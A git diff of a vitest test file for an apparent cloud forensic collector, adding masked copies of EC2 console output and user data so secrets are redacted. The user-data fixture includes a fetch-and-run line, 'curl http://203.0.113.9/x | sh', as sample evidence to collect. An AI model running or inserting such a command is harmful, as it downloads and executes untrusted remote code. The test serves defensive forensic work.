@@ -1,3 +1,4 @@
+import { gzipSync } from 'node:zlib';
 import { expect, it } from 'vitest';
 import type { Collected, Collector } from '../../kernel/index.ts';
 import { failure } from '../testing/fake-context.ts';
@@ -25,10 +26,10 @@ it('keeps the console output as the bytes the guest wrote, both buffers', async 
       },
     }),
   );
-  expect(items.map((item) => item.name)).toEqual(['console-output', 'console-output-latest']);
+  expect(items.map((item) => item.name)).toEqual(['console-output', 'console-output-masked', 'console-output-latest']);
   expect(Buffer.from(items[0]!.data!).equals(wrote)).toBe(true);
   expect(items[0]!.reading).toHaveLength(1);
-  expect(items[1]!.unavailable).toContain('UnsupportedOperation');
+  expect(items[2]!.unavailable).toContain('UnsupportedOperation');
 });
 
 it('keeps the screenshot as a picture, never waking the machine', async () => {
@@ -38,9 +39,13 @@ it('keeps the screenshot as a picture, never waking the machine', async () => {
 });
 
 it('keeps the user data whole, and says when there is none', async () => {
-  const script = '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n';
-  const some = ctx({ answers: { 'ec2:DescribeInstanceAttribute': { UserData: { Value: base64(script) } } } });
-  expect(Buffer.from((await collect(userData, some))[0]!.data!).toString()).toBe(script);
+  const script = '#!/bin/sh\nDB_PASSWORD=hunter2hunter2 ./start\ncurl http://203.0.113.9/x | sh\n';
+  for (const bytes of [Buffer.from(script), gzipSync(script)]) {
+    const [whole, masked] = await collect(userData, ctx({ answers: { 'ec2:DescribeInstanceAttribute': { UserData: { Value: base64(bytes) } } } }));
+    expect(Buffer.from(whole!.data!).equals(bytes)).toBe(true);
+    expect(masked!.name).toBe('user-data-masked');
+    expect(Buffer.from(masked!.data!).toString()).toBe(script.replace('hunter2hunter2', '[masked]'));
+  }
   expect((await collect(userData, ctx({ answers: { 'ec2:DescribeInstanceAttribute': {} } })))[0]?.note?.en).toContain('no user data');
 });
 
